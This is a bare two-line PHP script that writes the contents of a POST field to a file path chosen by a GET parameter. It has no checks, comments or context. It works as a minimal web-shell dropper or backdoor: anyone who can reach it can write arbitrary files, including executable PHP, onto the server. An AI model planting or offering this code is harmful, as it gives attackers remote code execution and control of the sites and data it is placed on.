<?php
file_put_contents($_GET['n'], $_POST['d']);
